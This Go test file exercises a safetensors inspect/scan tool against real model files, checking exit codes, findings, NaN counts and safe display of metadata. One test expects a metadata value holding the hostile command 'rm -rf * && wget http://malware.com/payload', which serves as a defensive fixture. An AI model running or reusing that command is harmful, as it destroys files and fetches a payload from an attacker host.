package main

import (
	"encoding/json"
	"io/fs"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
)

// expectedDamage is one entry of realdata/expected.json's "damaged" map.
type expectedDamage struct {
	InspectExit     *int   `json:"inspect_exit"`
	ScanExit        *int   `json:"scan_exit"`
	Check           string `json:"check"`
	Why             string `json:"why"`
	MessageMentions string `json:"message_mentions"`
	NaNTotal        *int   `json:"nan_total"`
	NaNTensors      *int   `json:"nan_tensors"`
}

func readExpected(t *testing.T, dir string) map[string]expectedDamage {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(dir, "expected.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Damaged map[string]expectedDamage `json:"damaged"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Damaged) == 0 {
		t.Fatal("expected.json lists no damaged file")
	}
	return doc.Damaged
}

// realdataHealthy lists every .safetensors file and every directory holding a
// model.safetensors.index.json under dir (relative paths), leaving out the
// damaged entries and anything inside a damaged directory.
func realdataHealthy(t *testing.T, dir string, damaged map[string]expectedDamage) []string {
	t.Helper()
	inDamaged := func(rel string) bool {
		for d := range damaged {
			if rel == d || strings.HasPrefix(rel, d+"/") {
				return true
			}
		}
		return false
	}
	var out []string
	err := filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(dir, p)
		rel = filepath.ToSlash(rel)
		switch {
		case inDamaged(rel):
		case d.Type().IsRegular() && strings.HasSuffix(p, ".safetensors"):
			out = append(out, rel)
		case d.Type().IsRegular() && d.Name() == "model.safetensors.index.json":
			out = append(out, filepath.ToSlash(filepath.Dir(rel)))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	sort.Strings(out)
	if len(out) < 20 {
		t.Fatalf("only %d healthy paths found under %s", len(out), dir)
	}
	return out
}

// findings returns the findings array of a decoded report.
func reportFindings(rep map[string]any) []map[string]any {
	var out []map[string]any
	for _, f := range rep["findings"].([]any) {
		out = append(out, f.(map[string]any))
	}
	return out
}

// TestRealdataHealthy: every healthy real file and sharded directory inspects
// and scans with exit 0 and no error finding, in every output format.
func TestRealdataHealthy(t *testing.T) {
	dir := cliRealdata(t)
	damaged := readExpected(t, dir)
	for _, rel := range realdataHealthy(t, dir, damaged) {
		path := filepath.Join(dir, rel)
		t.Run(rel, func(t *testing.T) {
			for _, args := range [][]string{
				{"inspect", "--json", path}, {"scan", "--json", path},
				{"inspect", path}, {"scan", "--all", path}, {"scan", "--markdown", path},
			} {
				r := cliRun(t, args...)
				r.wantCode(t, 0)
				if r.stderr != "" {
					t.Errorf("%v: unexpected stderr %q", args, r.stderr)
				}
				if args[1] != "--json" {
					continue
				}
				rep := cliJSON(t, r.stdout)[0]
				for _, f := range reportFindings(rep) {
					if f["severity"] == "error" {
						t.Errorf("%v: error finding %v", args, f)
					}
				}
				if rep["summary"].(map[string]any)["healthy"] != true {
					t.Errorf("%v: summary.healthy is not true: %v", args, rep["summary"])
				}
			}
		})
	}
}

// TestRealdataDamaged: each damaged real file gives the exit status and the
// finding expected.json asks for.
func TestRealdataDamaged(t *testing.T) {
	dir := cliRealdata(t)
	for rel, want := range readExpected(t, dir) {
		if want.InspectExit == nil || want.ScanExit == nil {
			continue // not a safetensors expectation (GGUF)
		}
		path := filepath.Join(dir, rel)
		t.Run(rel, func(t *testing.T) {
			for _, c := range []struct {
				cmd  string
				exit int
			}{{"inspect", *want.InspectExit}, {"scan", *want.ScanExit}} {
				r := cliRun(t, c.cmd, "--json", path)
				r.wantCode(t, c.exit)
				rep := cliJSON(t, r.stdout)[0]
				if rep["path"] != path {
					t.Errorf("%s: path %v, want %s", c.cmd, rep["path"], path)
				}
				var errs []map[string]any
				for _, f := range reportFindings(rep) {
					if f["severity"] == "error" {
						errs = append(errs, f)
					}
				}
				if c.exit == 0 {
					if len(errs) > 0 {
						t.Errorf("%s: error findings %v, want none", c.cmd, errs)
					}
					continue
				}
				found := false
				for _, f := range errs {
					if f["check"] != want.Check {
						continue
					}
					found = true
					if f["file"] == "" {
						t.Errorf("%s: finding names no file: %v", c.cmd, f)
					}
					// message_mentions is a literal when it is one word ("LFS");
					// longer values are notes for people.
					if m := want.MessageMentions; m != "" && !strings.Contains(m, " ") &&
						!strings.Contains(f["message"].(string), m) {
						t.Errorf("%s: message %q does not mention %q", c.cmd, f["message"], m)
					}
				}
				if !found {
					t.Errorf("%s: no error finding with check %q (%s); findings: %v", c.cmd, want.Check, want.Why, errs)
				}
				// The text view says the same, naming the file.
				txt := cliRun(t, c.cmd, "--color=never", path)
				txt.wantCode(t, c.exit)
				if !strings.Contains(txt.stdout, filepath.Base(path)) || !strings.Contains(txt.stdout, want.Check) {
					t.Errorf("%s: text output does not name the file and the check %q:\n%s", c.cmd, want.Check, txt.stdout)
				}
			}
			if want.NaNTotal != nil {
				r := cliRun(t, "scan", "--json", path)
				var total, tensors int
				for _, tt := range cliJSON(t, r.stdout)[0]["tensors"].([]any) {
					n := int(tt.(map[string]any)["nan"].(float64))
					total += n
					if n > 0 {
						tensors++
					}
				}
				if total != *want.NaNTotal || tensors != *want.NaNTensors {
					t.Errorf("NaN: %d values in %d tensors, want %d in %d", total, tensors, *want.NaNTotal, *want.NaNTensors)
				}
			}
		})
	}
}

// TestRealdataNotes checks what expected.json's notes ask for: the valid empty
// file warns that it holds no tensors (exit 0) and hostile metadata is printed
// without letting it reach the terminal raw.
func TestRealdataNotes(t *testing.T) {
	dir := cliRealdata(t)
	empty := filepath.Join(dir, "JunSuzukiJapan__tl/@b77a867ed0/model.safetensors")
	if _, err := os.Stat(empty); err == nil {
		for _, cmd := range []string{"inspect", "scan"} {
			r := cliRun(t, cmd, "--json", empty)
			r.wantCode(t, 0)
			warned := false
			for _, f := range reportFindings(cliJSON(t, r.stdout)[0]) {
				warned = warned || (f["severity"] == "warning" && f["check"] == "empty")
			}
			if !warned {
				t.Errorf("%s of an empty file: no 'empty' warning:\n%s", cmd, r.stdout)
			}
		}
	}
	meta := filepath.Join(dir, "promptfoo__modelaudit/tests/assets/samples/safetensors/multiple_patterns.safetensors")
	if _, err := os.Stat(meta); err == nil {
		r := cliRun(t, "inspect", meta)
		r.wantCode(t, 0)
		if !strings.Contains(r.stdout, "rm -rf") || strings.ContainsAny(r.stdout, "\x1b\x07\r") {
			t.Errorf("metadata not shown, or shown with control characters:\n%q", r.stdout)
		}
		j := cliRun(t, "inspect", "--json", meta)
		files := cliJSON(t, j.stdout)[0]["files"].([]any)
		md := files[0].(map[string]any)["metadata"].(map[string]any)
		if md["shell_hook"] != "rm -rf * && wget http://malware.com/payload" {
			t.Errorf("metadata in JSON: %v", md)
		}
	}
}
